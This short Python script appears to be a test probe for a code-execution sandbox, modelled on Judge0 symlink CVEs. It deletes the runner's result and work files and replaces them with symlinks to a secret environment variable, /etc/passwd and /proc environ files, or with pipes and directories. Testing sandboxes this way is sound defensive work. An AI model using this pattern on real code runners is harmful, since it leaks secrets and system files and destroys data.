# tries: plants links, pipes and directories under the names that init and the runner write
# seen-in: CVE-2024-28185, CVE-2024-28189 Judge0
# walls: collector
import os, shutil
targets = [os.environ["SECRET"], "/etc/passwd", "/proc/self/environ", "/proc/1/environ", "/dev/zero"]
# Where the runner writes its result.
told = dict(pair.split(b"=", 1) for pair in open("/proc/self/environ", "rb").read().split(b"\0") if b"=" in pair)
result, work = told[b"RESULT"].decode(), os.getcwd()
names = [f"{place}/{n}" for place in (result, work) for n in os.listdir(place)]
names += [f"{result}/{n}" for n in ("value", "error", "result", "runner", "out")] + [f"{work}/main.py", f"{work}/out"]
for turn, name in enumerate(names):
    try:
        if os.path.isdir(name) and not os.path.islink(name): shutil.rmtree(name)
        elif os.path.lexists(name): os.unlink(name)
        kind = turn % 3
        if kind == 0: os.symlink(targets[turn % len(targets)], name)
        elif kind == 1: os.mkfifo(name)
        else: os.mkdir(name)
    except OSError: pass
print("attempted")
